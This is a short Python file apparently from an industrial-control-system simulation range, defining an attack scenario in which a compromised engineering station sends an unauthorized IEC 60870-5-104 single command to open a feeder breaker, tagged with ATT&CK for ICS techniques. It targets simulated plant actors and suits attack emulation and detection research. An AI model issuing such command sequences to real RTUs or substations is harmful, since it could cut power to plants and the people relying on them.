"""The feeder's breaker is opened by a station that never commanded it before."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.actors.power import FEEDER_ADDRESS, FEEDER_SWITCHES
from interlock.plant.actors.steps import Ask, Close, Link
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import iec104

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]


def _script(_scene: Scene) -> Script:
    link, master = Link("engineering", "rtu-feeder", 2404), iec104.Master(FEEDER_ADDRESS)
    yield Ask(link, iec104.u_frame(iec104.STARTDT))
    master.heard((yield Ask(link, master.command(iec104.INTERROGATION, 0, b"\x14"))))
    yield Ask(link, master.command(iec104.SINGLE_COMMAND, FEEDER_SWITCHES[0].command, b"\x00"))
    yield Close(link)


SCENARIO: Final = Scenario(
    name="iec104-injection",
    title="The engineering station, taken over, opens the feeder's breaker",
    technique="T0855",
    also=("T0848", "T0831"),
    attacker="engineering",
    victims=("rtu-feeder",),
    harm="The whole plant loses its power at once.",
    script=_script,
    moves=("power.breaker", "power.load", "filler.speed"),
)
